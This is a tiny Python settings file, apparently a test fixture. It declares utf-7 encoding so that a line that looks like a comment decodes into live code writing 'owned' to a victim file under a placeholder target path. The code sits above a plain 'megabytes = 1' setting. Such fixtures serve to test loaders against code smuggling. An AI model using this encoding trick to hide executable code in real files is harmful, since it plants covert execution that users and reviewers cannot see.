# -*- coding: utf-7 -*-
# +AAo-open('@TARGET@/victim.txt','w').write('owned')
megabytes = 1
